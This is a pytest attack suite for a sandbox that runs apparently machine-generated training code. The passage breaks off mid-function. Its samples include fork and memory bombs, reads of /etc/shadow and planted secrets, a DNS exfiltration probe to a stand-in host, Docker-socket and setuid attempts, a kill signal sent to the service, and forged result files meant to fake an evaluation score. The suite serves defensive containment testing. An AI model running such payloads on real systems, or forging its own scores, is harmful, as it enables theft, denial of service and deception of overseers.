"""The attack suite: hostile candidates against both sandbox backends.

Each attack is a candidate source written the way a generated one would be (a CNN-family
module: `build_model(input_shape, num_classes)` / `train(model)`, the hostile part in
`build_model`), and runs twice on each backend:

* `test_attack_through_the_gate`: `sandbox.runner.run`, the policy gate first. Where
  the gate rejects it, the expected rule is checked and nothing may start.
* `test_attack_in_the_sandbox`: the gate bypassed (`backend.execute`), so that the
  sandbox itself is what is tested.

ATTACKS below is the table of expected outcomes: the gate's rule (None: it passes the
gate) and, per backend, the recorded status in the sandbox ("refused": the job never
reaches a sandbox, the schema turns it away). Each attack also has a check of what the
trusted side observes (the server saw no connection, the token never came back, no
process survived ...). After every run: no container or job directory is left, and
the backend still runs a normal candidate (`test_backend_still_serves_after_the_attacks`).

tests/support/sabotage.py names, per attack and backend, the confinement properties a
deny test relies on (SELFPROG_SABOTAGE=<property> switches one off, see
sandbox/backends/base.py) and what its failure then says; those tests carry the marker
`deny` and tests/attacks/test_sabotage.py checks that they, and only they, fail with that
message when their property is off. `test_attack_in_a_warm_sandbox` runs a subset in
pre-warmed sandboxes; the "gvisor" backend is Docker with the runsc runtime.

SECURITY.md has this table with the results.
"""
from __future__ import annotations

import hashlib
import io
import json
import os
import random
import signal
import struct
import uuid
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest

from sandbox import runner
from sandbox.backends.collect import check_safetensors
from sandbox.backends.process_tree import processes as _processes
from sandbox.schema import MAX_LOG_CHARS, Job, Limits, Result, SchemaError
from tests.support import sabotage
from tests.support.candidates import TINY, cnn_source
from tests.support.env import host_c_compilers

BACKENDS = ("process", "docker")
REPO_FILE = Path(__file__).resolve()   # world-readable on most hosts, never the sandbox's
DOCKER_SOCKET = Path("/var/run/docker.sock")
HOST_SHADOW = Path("/etc/shadow")
FORGED = 1e-06                      # the score every forgery claims


# --------------------------------------------------------------------------- sources


# Appended to a body; cnn_source dedents the pieces around \x01 separately.
REPORT = '\x01raise RuntimeError("REPORT " + json.dumps(r))\n'


def report(result: Result) -> dict:
    """The dict an attack sent back as `RuntimeError("REPORT {json}")`."""
    assert "REPORT " in result.reason, (result.status, result.reason, result.logs[-3000:])
    raw = result.reason.split("REPORT ", 1)[1]
    return json.loads(raw[:raw.rindex("}") + 1])


@dataclass
class Ctx:
    """What one attack run aims at and what this side observed."""
    host: object
    backend_name: str
    tcp: object = None
    udp: object = None
    marker: str = ""
    target_dir: Path | None = None
    out_dir: Path | None = None
    extra: dict = field(default_factory=dict)


@dataclass(frozen=True)
class Attack:
    name: str
    source: Callable[[Ctx], str | bytes]
    gate: str | None                       # the policy rule that rejects it; None: passes
    expect: dict                           # backend -> status ("refused": never starts)
    check: Callable[[Ctx, Result], None] = lambda ctx, r: None
    kind: str = "evaluate"
    model_kind: str = "cnn"
    limits: dict = field(default_factory=dict)
    needs: tuple = ()                      # "tcp", "udp", "target", "weights_bomb", ...
    residual: str | dict = ""              # a documented residual risk: xfail(strict);
                                           # a dict: only on the backends it names


def both(status: str) -> dict:
    return {"process": status, "docker": status}


# --------------------------------------------------------------------------- checks

def _no_token(ctx: Ctx, r: Result) -> None:
    assert ctx.host.token not in r.reason + r.logs, sabotage.SECRET_BACK


def check_fork(ctx, r):
    assert "FORKED" in r.reason and "without" not in r.reason, r.reason
    assert int(r.reason.split("FORKED ")[1].split()[0]) < 32, r.reason


def check_connect(ctx, r):
    rep = report(r)
    assert not ctx.tcp.accepted, f"the sandbox reached this host: {ctx.tcp.accepted}"
    assert "CONNECTED" not in rep.values(), rep


def check_dns(ctx, r):
    rep = report(r)
    assert not ctx.udp.accepted, f"a DNS query reached this host: {ctx.udp.accepted}"
    assert rep["getaddrinfo"].startswith("failed"), rep


def _host_hidden(ctx: Ctx, rep: dict) -> None:
    """In a container the host's filesystem is not there at all: every path the attack
    tried under /host must not exist (a PermissionError would mean it is mounted)."""
    if ctx.backend_name == "process":
        return
    seen = {k: v for k, v in rep.items() if k.startswith("/host") and v != "DENIED FileNotFoundError"}
    assert not seen, f"{sabotage.HOST_VISIBLE}: {seen}"


def check_all_denied(ctx, r):
    rep = report(r)
    _host_hidden(ctx, rep)
    assert all(str(v).startswith("DENIED") for v in rep.values()), rep
    _no_token(ctx, r)


def check_env(ctx, r):
    rep = report(r)
    assert not rep["leak"], rep["leak"]
    assert "SELFPROG_TEST_ATTACK_SECRET" not in rep["names"], rep["names"]
    _no_token(ctx, r)


def check_host_files(ctx, r):
    """The planted 0600 secret, the lineage DB (0600, as LineageStore makes it) and the
    host's /etc/shadow: none may be read (the container's own /etc/shadow does not count)."""
    rep = report(r)
    _host_hidden(ctx, rep)
    for path in (ctx.host.secret, ctx.host.lineage_db):
        for p in (str(path), "/host" + str(path)):
            assert rep[p].startswith("DENIED"), (p, rep[p])
    if HOST_SHADOW.exists():
        real = hashlib.sha256(HOST_SHADOW.read_bytes()[:4096]).hexdigest()[:16]
        assert not any(real in v for v in rep.values()), "the host's /etc/shadow was read"
    _no_token(ctx, r)


def check_writes(ctx, r):
    check_all_denied(ctx, r)
    assert sorted(p.name for p in ctx.target_dir.iterdir()) == ["victim.txt"]
    assert (ctx.target_dir / "victim.txt").read_text() == "unchanged"


def check_disk(ctx, r):
    assert "DISK STOPPED" in r.reason, r.reason
    assert int(r.reason.split("after ")[1].split()[0]) <= 8, r.reason


def check_flood(ctx, r):
    assert len(r.logs) <= MAX_LOG_CHARS
    assert "FLOOD STOPPED" in r.reason, r.reason   # the file-size limit stops the writes


def check_ctypes(ctx, r):
    rep = report(r)
    assert rep["setuid0"] != 0 and rep["euid"] != 0, rep
    print(f"ctypes on {ctx.backend_name}: {rep}")   # unshare(CLONE_NEWUSER): see SECURITY.md


def _identity(stat: str) -> tuple[str, str]:
    """(command name, start time) of a /proc/<pid>/stat line: what names one process."""
    comm, rest = stat.rsplit(")", 1) if ")" in stat else (stat, "")
    fields = rest.split()
    return comm.split("(", 1)[-1], fields[19] if len(fields) > 19 else ""


def _stat_of(pid: int) -> str:
    with open(f"/proc/{pid}/stat") as f:
        return f.read()


def check_signal(ctx, r):
    rep = report(r)
    # A PID namespace of its own (the container's, bubblewrap's): no host process there.
    assert _identity(rep["stat"]) != _identity(_stat_of(ctx.host.service_pid)), \
        f"{sabotage.HOST_PIDS}: {rep['stat']}"
    assert rep["probe"].startswith("DENIED"), rep
    assert rep["kill"].startswith("DENIED"), rep
    os.kill(ctx.host.service_pid, 0)        # and we are alive


def _marked(marker: str) -> list[int]:
    needle = f"sleep\0{marker}\0".encode()
    found = []
    for pid, _ in _processes():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if f.read() == needle:
                    found.append(pid)
        except OSError:
            pass
    return found


def check_background(ctx, r):
    assert not _marked(ctx.marker), "a background process of the candidate survived the run"


def _status_fields(rep: dict, prefix: str) -> dict:
    return {k: v for k, v in rep.items() if k.startswith(prefix)}


def check_caps(ctx, r):
    """No capability in any set; in a container not even in the bounding set (the process
    backend drops to a uid without capabilities but keeps the bounding set: SECURITY.md)."""
    rep = report(r)
    sets = ["CapInh", "CapPrm", "CapEff", "CapAmb"]
    if ctx.backend_name != "process":
        sets.append("CapBnd")
    held = {k: rep[k] for k in sets if int(rep.get(k, "0"), 16)}
    assert not held and rep["raw_socket"].startswith("DENIED"), \
        f"{sabotage.CAPS}: {held}, raw socket {rep['raw_socket']}"


def check_nnp(ctx, r):
    rep = report(r)
    assert rep.get("NoNewPrivs") == "1", f"{sabotage.NNP}: {rep}"


OPEN_FILES_LIMIT = {"process": 256, "docker": 1024, "gvisor": 1024}   # MAX_OPEN_FILES


def check_open_files(ctx, r):
    assert "FILES STOPPED" in r.reason, r.reason
    assert int(r.reason.split("after ")[1].split()[0]) <= OPEN_FILES_LIMIT[ctx.backend_name], \
        r.reason


def check_core(ctx, r):
    assert "CORE soft 0 hard 0 " in r.reason, f"{sabotage.CORE}: {r.reason}"


def check_cpu(ctx, r):
    rep = report(r)
    if ctx.backend_name == "process":       # RLIMIT_CPU, the backstop of the deadline
        hard = rep["rlimit_cpu"][1]
        assert 0 <= hard <= 10 * 60, f"{sabotage.NO_CPU_BOUND}: RLIMIT_CPU {rep['rlimit_cpu']}"
        return
    # the container's CPU quota (cgroup v2 cpu.max, v1 cpu.cfs_quota_us): at most 1 CPU
    v2, v1 = rep.get("/sys/fs/cgroup/cpu.max", ""), rep.get("cfs_quota_us", "")
    if v2 and not v2.startswith("missing"):
        quota, period = v2.split()
        ok = quota != "max" and int(quota) <= int(period)
    else:
        ok = v1.lstrip("-").isdigit() and 0 < int(v1) <= int(rep["cfs_period_us"])
    assert ok, f"{sabotage.NO_CPU_BOUND}: {rep}"


def check_ipc(ctx, r):
    rep = report(r)
    # An IPC namespace and a /dev/shm of its own (the container's, bubblewrap's).
    assert rep["ns"] != ctx.extra["ipc_ns"] and not rep["visible"], \
        f"{sabotage.SHARED_IPC}: {rep}"
    assert ctx.host.token not in r.reason + r.logs, sabotage.SECRET_BACK


def check_public_files(ctx, r):
    """World-readable host files (one planted under /var/tmp, this repository's own): not
    in the sandbox's root at all."""
    rep = report(r)
    _host_hidden(ctx, rep)
    read = {p: v for p, v in rep.items() if not v.startswith("DENIED")}
    assert not read, f"{sabotage.READ}of world-readable host files: {read}"
    _no_token(ctx, r)


def _left_paths(ctx: Ctx) -> list[str]:
    return [f"/tmp/selfprog-left-{ctx.marker}", f"/dev/shm/selfprog-left-{ctx.marker}"]


def check_left_files(ctx, r):
    report(r)
    left = [p for p in _left_paths(ctx) if os.path.exists(p)]
    for p in left:
        os.unlink(p)
    assert not left, f"{sabotage.LEFT_FILES}: {left}"


def check_processes(ctx, r):
    rep = report(r)
    assert rep["service"] == "not seen" and len(rep["pids"]) < 10, \
        f"{sabotage.HOST_PIDS}: {rep['service']}, {len(rep['pids'])} processes"


def check_native(ctx, r):
    rep = report(r)
    ran = {cc: v for cc, v in rep.items() if v.startswith("COMPILED")}
    assert not ran, f"{sabotage.RAN_NATIVE}: {ran}"


def check_no_exec(ctx, r):
    rep = report(r)
    ran = {d: v for d, v in rep.items() if v.startswith("RAN")}
    assert not ran, f"{sabotage.RAN_WRITTEN}: {ran}"


# Never importable in a sandbox: the trusted pipeline, the data sets with their labels,
# the service clients (the route the process backend had when it bound the trusted venv).
NEVER_IMPORTABLE = {"pipeline", "mlxtend", "sklearn", "scipy", "pandas", "celery", "kombu",
                    "sqlalchemy", "alembic", "psycopg2", "redis", "docker", "pytest"}
# Data-set files (any of these outside the job directory could hold labels).
DATA_SUFFIXES = (".csv", ".csv.gz", ".npz", ".npy", ".pkl", ".joblib", ".arff", ".mat",
                 "-ubyte", "-ubyte.gz", ".safetensors", ".pt")
# Docker: the image's venv tools, beyond the runtime's set (Dockerfile.sandbox's venv:
# pip, wheel and its older setuptools' pkg_resources).
IMAGE_TOOLS = {"pip", "wheel", "pkg_resources"}


def _inventory(r: Result) -> dict:
    line = [ln for ln in r.logs.splitlines() if ln.startswith("INVENTORY ")]
    assert line, (r.status, r.reason, r.logs[-2000:])
    return json.loads(line[-1][len("INVENTORY "):])


def check_inventory(ctx, r):
    """What the sandbox can import and read, against the documented allow-list: the
    standard library, the runtime's distributions (sandbox/backends/runtime.py ALLOWED)
    and the staged harness; files only under what bubblewrap binds (process) or the
    image's own (docker), and no data-set file anywhere outside the job directory."""
    import sys as _sys

    from sandbox.backends import bwrap, runtime
    inv = _inventory(r)
    modules = set(inv["modules"])
    allowed = (runtime.stdlib_modules() | runtime.top_level_modules(runtime.DEFAULT_PREFIX)
               | {"sandbox"} | (IMAGE_TOOLS if ctx.backend_name != "process" else set()))
    beyond = sorted(modules - allowed)
    assert not beyond and not modules & NEVER_IMPORTABLE, \
        f"{sabotage.BEYOND}: importable {beyond}"
    assert {"torch", "transformers", "safetensors", "numpy"} <= modules, modules
    assert not inv["data_files"], f"{sabotage.BEYOND}: data files {inv['data_files'][:20]}"
    roots = set(inv["roots"])
    if ctx.backend_name == "process":
        def root(p: str) -> str:
            return "/".join(os.path.dirname(p).split("/")[:4])
        binds = (runtime.DEFAULT_PREFIX + "/bin/python", *runtime.stdlib_dirs(),
                 *bwrap.LIB_DIRS, *bwrap.ETC_FILES,
                 *(f"{bwrap.TOOL_DIR}/{t}" for t in bwrap.SHELL_TOOLS))
        permitted = {root(p + "/x") if os.path.isdir(p) else root(p) for p in binds}
        permitted |= {r for r in roots if r.startswith("/usr/lib/") and r.endswith("-linux-gnu")}
        outside = sorted(roots - permitted - {"/opt/selfprog/sandbox-runtime"})
        # what lies directly in /etc, /usr/bin: exactly the bound files
        tools = [f"{bwrap.TOOL_DIR}/{t}" for t in bwrap.SHELL_TOOLS]
        loose = {p for p in inv["loose"] if not p.startswith(tuple(d + "/" for d in bwrap.LIB_DIRS))}
        loose -= {*bwrap.ETC_FILES, *tools, *map(os.path.realpath, tools),
                  os.path.realpath(_sys._base_executable)}
        outside += sorted(loose)
    else:
        outside = sorted(p for p in roots
                         if p.startswith(("/host", "/work", "/home", "/root", "/opt/selfprog/venv")))
    assert not outside, f"{sabotage.BEYOND}: readable files under {outside[:20]}"


def check_real_score(ctx, r):
    assert r.score is not None and r.score != FORGED and r.score > 0.05, r


def check_forged_file(ctx, r):
    assert r.score is None and "seal" in r.reason, r


def check_not_forged(ctx, r):
    assert r.score != FORGED, r
    if r.status == "crashed":
        assert "seal" in r.reason or "symlink" in r.reason, r.reason
    else:
        check_real_score(ctx, r)


def check_tampered(ctx, r):
    assert "trusted code may not be modified" in r.reason, r.reason


def check_exit0(ctx, r):
    assert "without a valid result" in r.reason, r.reason


def check_huge(ctx, r):
    assert "non-finite" in r.reason or "out of bounds" in r.reason, r.reason


def check_outputs(ctx, r):
    w = ctx.out_dir / "weights.safetensors"
    assert w.is_file() and not w.is_symlink()
    with open(w, "rb") as f:
        assert check_safetensors(f, w.stat().st_size) == ""
    assert sorted(p.name for p in ctx.out_dir.iterdir()) == ["weights.safetensors"]
    assert ctx.host.victim.read_text() == "unchanged"
    assert ctx.host.token.encode() not in w.read_bytes()


def check_swapped_outputs(ctx, r):
    for p in ctx.out_dir.iterdir() if ctx.out_dir.exists() else []:
        assert not p.is_symlink() and ctx.host.token.encode() not in p.read_bytes()
    if r.status == "ok":
        check_outputs(ctx, r)
    else:
        assert "symlink" in r.reason or "seal" in r.reason, r.reason


# --------------------------------------------------------------------------- the table

def _reads(paths: str, mode: str = "rb") -> str:
    return f"""
r = {{}}
for p in {paths}:
    try:
        with open(p, "{mode}") as f:
            data = f.read(4096)
        r[p] = "READ " + hashlib.sha256(data).hexdigest()[:16] + " " + repr(data[:40])
    except OSError as e:
        r[p] = "DENIED " + type(e).__name__
"""


ATTACKS = [
    Attack("fork_bomb", lambda c: cnn_source("import os, time", """
        forked = 0
        try:
            for _ in range(150):
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
                forked += 1
        except OSError as e:
            raise RuntimeError(f"FORKED {forked} then {type(e).__name__}")
        raise RuntimeError(f"FORKED {forked} without hitting a limit")
        """), "import", both("invalid"), check_fork, limits={"pids": 32}),
    Attack("memory_bomb", lambda c: cnn_source("", """
        hog = []
        touched = 0
        for _ in range(48):                       # 12 GB of address space at most ...
            t = torch.empty(256 * 1024 * 1024, dtype=torch.uint8)
            if touched < 2048:                    # ... 2 GB of it resident (4x the limit)
                t[::4096].fill_(1)
                touched += 256
            hog.append(t)
        raise RuntimeError(f"ALLOCATED {len(hog) * 256} MB, touched {touched} MB")
        """), None, both("oom"), limits={"memory_mb": 512}),
    Attack("cpu_spin", lambda c: cnn_source("", """
        x = 1.0
        while True:
            x = x * 1.0000001 + 1e-9
        """), None, both("timeout"), limits={"timeout_s": 3}),
    Attack("loop_ignoring_sigterm_and_sigint", lambda c: cnn_source("import signal", """
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            pass
        """), "import", both("timeout"), limits={"timeout_s": 3}),
    Attack("sleep_past_deadline", lambda c: cnn_source("import time", "time.sleep(3600)"),
           "import", both("timeout"), limits={"timeout_s": 3}),
    Attack("connect_to_loopback_server", lambda c: cnn_source("import json, socket", f"""
        r = {{}}
        for host in ("127.0.0.1", "localhost", "::1"):
            try:
                socket.create_connection((host, {c.tcp.port}), timeout=3).close()
                r[host] = "CONNECTED"
            except OSError as e:
                r[host] = type(e).__name__
        """ + REPORT), "import", both("invalid"), check_connect,
        needs=("tcp",)),
    Attack("dns_lookup", lambda c: cnn_source("import json, socket", f"""
        r = {{}}
        try:
            r["getaddrinfo"] = str(socket.getaddrinfo("selfprog-exfil.example.com", 443)[0][4])
        except OSError as e:
            r["getaddrinfo"] = "failed " + type(e).__name__
        query = (bytes.fromhex("abcd01000001000000000000") + bytes([4]) + b"leak"
                 + bytes([7]) + b"example" + bytes([3]) + b"com" + bytes([0, 0, 1, 0, 1]))
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        try:
            s.sendto(query, ("127.0.0.1", {c.udp.port}))
            r["udp"] = "sent"
            r["reply"] = s.recv(512).hex()
        except OSError as e:
            r["udp"] = type(e).__name__
        """ + REPORT), "import", both("invalid"), check_dns, needs=("udp",)),
    Attack("read_host_secret_files", lambda c: cnn_source(
        "import hashlib, json", _reads(repr(tuple(
            p for f in (c.host.secret, c.host.lineage_db, "/etc/shadow")
            for p in (str(f), "/host" + str(f))))) + REPORT),
        "import", both("invalid"), check_host_files),
    Attack("read_world_readable_host_files", lambda c: cnn_source(
        "import hashlib, json", _reads(repr(tuple(
            p for f in (c.host.public, REPO_FILE) for p in (str(f), "/host" + str(f)))))
        + REPORT), "import", both("invalid"), check_public_files),
    Attack("leave_files_in_tmp_and_shm", lambda c: cnn_source("import json", f"""
        r = {{}}
        for p in {_left_paths(c)!r}:
            try:
                with open(p, "w") as f:
                    f.write("left behind")
                r[p] = "WROTE"
            except OSError as e:
                r[p] = "DENIED " + type(e).__name__
        """ + REPORT), "import", both("invalid"), check_left_files, needs=("marker",)),
    Attack("list_host_processes", lambda c: cnn_source("import json, os", """
        r = {"pids": [], "service": "not seen"}
        for p in os.listdir("/proc"):
            if p.isdigit():
                r["pids"].append(int(p))
                try:
                    with open("/proc/" + p + "/cmdline", "rb") as f:
                        if b"pytest" in f.read():
                            r["service"] = "SEEN pid " + p
                except OSError:
                    pass
        """ + REPORT), "import", both("invalid"), check_processes),
    Attack("build_native_code", lambda c: cnn_source("import json, subprocess", f"""
        r = {{}}
        with open("tmp/hello.c", "w") as f:
            f.write("int main(void) {{ return 42; }}" + chr(10))
        for cc in ["cc", "gcc", "clang"] + {c.extra.get("compilers", [])!r}:
            try:
                built = subprocess.run([cc, "-o", "tmp/hello", "tmp/hello.c"],
                                       capture_output=True, timeout=60)
                if built.returncode != 0:
                    r[cc] = "DENIED build: " + built.stderr.decode(errors="replace")[-200:]
                    continue
                ran = subprocess.run(["tmp/hello"], timeout=10)
                r[cc] = "COMPILED AND RAN, exit " + str(ran.returncode)
            except OSError as e:
                r[cc] = "DENIED " + type(e).__name__
        """ + REPORT), "import", both("invalid"), check_native, needs=("compilers",)),
    Attack("run_a_written_binary", lambda c: cnn_source("import json, os, shutil, subprocess", """
        r = {}
        for d in ("out", "tmp", "/tmp", "/dev/shm"):
            p = os.path.join(os.path.abspath(d), "copied-sleep")
            try:
                shutil.copyfile("/bin/sleep", p)      # bytes a candidate could carry itself
                os.chmod(p, 0o755)
                r[d] = "RAN, exit " + str(subprocess.run([p, "0"], timeout=10).returncode)
            except OSError as e:
                r[d] = "DENIED " + type(e).__name__
            finally:
                if os.path.exists(p):
                    os.unlink(p)
        """ + REPORT), "import", both("invalid"), check_no_exec),
    Attack("list_what_the_sandbox_sees", lambda c: cnn_source(
        "import json, os, pkgutil, sys", """
        here = os.path.realpath(".")
        modules = sorted({m.name for m in pkgutil.iter_modules()})
        roots, loose, data_files, seen = set(), [], [], 0
        for top, dirs, files in os.walk("/", onerror=lambda e: None):
            if top in ("/proc", "/sys", "/dev") or top == here or top.startswith(here + "/"):
                dirs[:] = []
                continue
            for name in files:
                path = os.path.join(top, name)
                seen += 1
                if seen > 400000 or not os.access(path, os.R_OK) or not os.path.isfile(path):
                    continue
                roots.add("/".join(top.split("/")[:4]))
                if top.count("/") < 3 and len(loose) < 100:   # /etc/..., /usr/bin/...
                    loose.append(path)
                # the runtime's own (numpy's and torch's test arrays): its distributions
                # are the allow-list's, checked file by file (runtime.check_runtime)
                if name.lower().endswith(("%s")) and not path.startswith(sys.prefix + "/"):
                    data_files.append(path)
        # bounded: with a confinement property off the whole host is readable, and the
        # line must fit the logs that bring it back (MAX_LOG_CHARS, sandbox/schema.py)
        print("INVENTORY " + json.dumps({"modules": modules, "roots": sorted(roots)[:100],
                                         "loose": loose[:40], "data_files": data_files[:10],
                                         "files": seen}))
        r = {"modules": len(modules), "files": seen}
        """ % '", "'.join(DATA_SUFFIXES) + REPORT), "import", both("invalid"), check_inventory,
        limits={"timeout_s": 120}),
    Attack("read_host_environment", lambda c: cnn_source("import json, os", """
        r = {"leak": [k for k, v in os.environ.items() if v.startswith("tok-")],
             "names": sorted(os.environ)}
        """ + REPORT), "import", both("invalid"), check_env),
    Attack("use_docker_socket", lambda c: cnn_source("import json, socket", """
        r = {}
        for p in ("/var/run/docker.sock", "/run/docker.sock", "/host/var/run/docker.sock",
                  "/host/run/docker.sock"):     # /var/run -> /run resolves inside, not on /host
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(3)
            try:
                s.connect(p)
                s.sendall(b"GET /_ping HTTP/1.0" + bytes([13, 10, 13, 10]))
                r[p] = "ANSWERED " + s.recv(200).decode(errors="replace")[:40]
            except OSError as e:
                r[p] = "DENIED " + type(e).__name__
            finally:
                s.close()
        """ + REPORT), "import", both("invalid"), check_all_denied),
    Attack("write_outside_scratch", lambda c: cnn_source("import json", f"""
        r = {{}}
        for p in {[str(c.target_dir / "new"), "/host" + str(c.target_dir / "new"),
                   str(c.target_dir / "victim.txt"), "/host" + str(c.target_dir / "victim.txt"),
                   "job.json", "lib/sandbox/harness.py", "in/data.safetensors", "in/new"]!r}:
            try:
                with open(p, "a") as f:
                    f.write("x")
                r[p] = "WROTE"
            except OSError as e:
                r[p] = "DENIED " + type(e).__name__
        """ + REPORT), "import", both("invalid"), check_writes,
        needs=("target",)),
    Attack("fill_the_disk", lambda c: cnn_source("", """
        written = 0
        try:
            with open("tmp/fill", "wb") as f:
                for _ in range(32):
                    f.write(bytes(1024 * 1024))
                    f.flush()
                    written += 1
        except OSError as e:
            raise RuntimeError(f"DISK STOPPED after {written} MB: {type(e).__name__}")
        raise RuntimeError(f"DISK FILLED {written} MB")
        """), "builtin-call", both("invalid"), check_disk,
        limits={"output_mb": 8}),
    Attack("flood_stdout_and_stderr", lambda c: cnn_source("import sys", """
        chunk = "x" * (1024 * 1024)
        done = 0
        try:
            for _ in range(24):
                sys.stdout.write(chunk)
                sys.stderr.write(chunk)
                sys.stdout.flush()
                sys.stderr.flush()
                done += 1
        except OSError as e:
            raise RuntimeError(f"FLOOD STOPPED after {done} MB each: {type(e).__name__}")
        raise RuntimeError(f"FLOOD COMPLETE {done} MB each")
        """), "import", both("invalid"), check_flood,
        limits={"output_mb": 8},
        residual={"docker": "a container's stdout is a pipe to the engine's log driver: the "
                            "writes complete (the engine keeps 1 MB, the tail read back is "
                            "bounded), nothing stops the flood itself",
                  "gvisor": "as on docker"}),
    Attack("subprocess_and_os_system", lambda c: cnn_source("import json, os, subprocess", f"""
        r = {{}}
        for p in ({str(c.host.secret)!r}, "/host" + {str(c.host.secret)!r}):
            try:
                out = subprocess.run(["cat", p], capture_output=True, timeout=10)
                r["cat " + p] = ("READ " if out.returncode == 0 else "DENIED exit ") + \\
                    out.stdout.decode(errors="replace")[:60]
            except OSError as e:
                r["cat " + p] = "DENIED " + type(e).__name__
        os.system("cat {c.host.secret} /host{c.host.secret} > tmp/leak 2>/dev/null")
        try:
            with open("tmp/leak", "rb") as f:
                leaked = f.read(100).decode(errors="replace")
        except OSError:   # no shell ran at all: no exec after start (sandbox/seccomp.py)
            leaked = ""
        r["os.system"] = ("READ " + leaked) if leaked else "DENIED (nothing read)"
        """ + REPORT), "import", both("invalid"), check_all_denied),
    Attack("ctypes_setuid_root", lambda c: cnn_source("import ctypes, json, os", """
        libc = ctypes.CDLL(None, use_errno=True)
        r = {"setuid0": libc.setuid(0), "errno": ctypes.get_errno(), "euid": os.geteuid()}
        r["unshare_newuser"] = libc.unshare(0x10000000)
        """ + REPORT), "import", both("invalid"), check_ctypes),
    Attack("signal_the_service", lambda c: cnn_source("import json, os, signal", f"""
        r = {{}}
        try:
            with open("/proc/{c.host.service_pid}/stat") as f:
                r["stat"] = f.read()[:400]
        except OSError as e:
            r["stat"] = "not seen " + type(e).__name__
        try:
            os.kill({c.host.service_pid}, 0)       # may we signal the service at all?
            r["probe"] = "PERMITTED"
            r["kill"] = "not sent (the probe was permitted)"
        except OSError as e:
            r["probe"] = "DENIED " + type(e).__name__
            try:
                os.kill({c.host.service_pid}, signal.SIGKILL)
                r["kill"] = "SENT"
            except OSError as e:
                r["kill"] = "DENIED " + type(e).__name__
        """ + REPORT), "import", both("invalid"), check_signal),
    Attack("leave_background_process", lambda c: cnn_source("import os", f"""
        ready_r, ready_w = os.pipe()              # close-on-exec: EOF once sleep runs
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "{c.marker}"])
            os._exit(0)
        os.close(ready_w)
        os.read(ready_r, 1)                       # the escapee is in place before we go on
        """), "import", both("ok"), check_background,
        needs=("marker",)),
    Attack("write_the_root_filesystem", lambda c: cnn_source("import json", f"""
        r = {{}}
        for p in {([str(c.target_dir / "probe"), str(c.target_dir / "victim.txt")]
                   if c.backend_name == "process" else
                   ["/var/tmp/selfprog-probe", "/etc/selfprog-probe", "/selfprog-probe",
                    "/usr/lib/selfprog-probe", "/job/selfprog-probe"])!r}:
            try:
                with open(p, "a") as f:
                    f.write("x")
                r[p] = "WROTE"
            except OSError as e:
                r[p] = "DENIED " + type(e).__name__
        """ + REPORT), "import", both("invalid"), check_writes, needs=("target",)),
    Attack("hold_capabilities", lambda c: cnn_source("import json, socket", """
        r = {}
        with open("/proc/self/status") as f:
            for line in f:
                if line.startswith("Cap"):
                    k, v = line.split(":", 1)
                    r[k] = v.strip()
        try:
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
            r["raw_socket"] = "OPENED"
        except OSError as e:
            r["raw_socket"] = "DENIED " + type(e).__name__
        """ + REPORT), "import", both("invalid"), check_caps),
    Attack("gain_privileges_on_exec", lambda c: cnn_source("import ctypes, json", """
        # PR_GET_NO_NEW_PRIVS (39): 1 when exec can never gain privileges (setuid, file caps)
        r = {"NoNewPrivs": str(ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))}
        """ + REPORT), "import", both("invalid"), check_nnp),
    Attack("open_many_files", lambda c: cnn_source("import os", """
        fds = []
        try:
            for _ in range(5000):
                fds.append(os.open("/dev/null", os.O_RDONLY))
        except OSError as e:
            n = len(fds)
            for fd in fds:
                os.close(fd)
            raise RuntimeError(f"FILES STOPPED after {n} open: {type(e).__name__}")
        raise RuntimeError(f"FILES OPENED {len(fds)}")
        """), "import", both("invalid"), check_open_files),
    Attack("dump_core", lambda c: cnn_source("import resource", """
        try:
            resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,
                                                      resource.RLIM_INFINITY))
            raised = "RAISED"
        except (OSError, ValueError) as e:
            raised = "DENIED " + type(e).__name__
        soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
        raise RuntimeError(f"CORE soft {soft} hard {hard} raise {raised}")
        """), "import", both("invalid"), check_core),
    Attack("spend_cpu_unbounded", lambda c: cnn_source("import json, resource", """
        r = {"rlimit_cpu": list(resource.getrlimit(resource.RLIMIT_CPU))}
        for k, p in (("/sys/fs/cgroup/cpu.max", "/sys/fs/cgroup/cpu.max"),
                     ("cfs_quota_us", "/sys/fs/cgroup/cpu/cpu.cfs_quota_us"),
                     ("cfs_period_us", "/sys/fs/cgroup/cpu/cpu.cfs_period_us")):
            try:
                with open(p) as f:
                    r[k] = f.read().strip()
            except OSError as e:
                r[k] = "missing " + type(e).__name__
        """ + REPORT), "import", both("invalid"), check_cpu),
    Attack("reach_host_ipc", lambda c: cnn_source("import json, os", f"""
        r = {{"visible": os.path.exists("/dev/shm/{c.extra['shm']}")}}
        try:
            r["ns"] = os.readlink("/proc/self/ns/ipc")
        except OSError as e:
            r["ns"] = "unknown " + type(e).__name__
        try:
            with open("/dev/shm/{c.extra['shm']}") as f:
                r["read"] = "READ " + f.read()
        except OSError as e:
            r["read"] = "DENIED " + type(e).__name__
        """ + REPORT), "import", both("invalid"), check_ipc, needs=("shm",)),
    Attack("print_fake_result_json", lambda c: cnn_source("", f"""
        print('{{"job_id": "x", "kind": "evaluate", "status": "ok", "score": {FORGED}}}')
        print("score: {FORGED}")
        """), None, both("ok"), check_real_score),
    Attack("write_result_file_and_exit_0", lambda c: cnn_source("import json, os", f"""
        job = json.loads(open("job.json").read())
        forged = {{"job_id": job["job_id"], "kind": job["kind"], "status": "ok",
                  "score": {FORGED}, "losses": [{FORGED}]}}
        with open("out/result.json", "w") as f:
            f.write(json.dumps(forged))
        with open("out/result.seal", "w") as f:
            f.write("0" * 64)
        os._exit(0)
        """), "import", both("crashed"), check_forged_file),
    Attack("rewrite_result_after_the_harness", lambda c: cnn_source("import json, os, time", f"""
        if os.fork() == 0:
            for _ in range(30000):
                try:
                    with open("out/result.json") as f:
                        real = json.loads(f.read())
                    real["score"] = {FORGED}
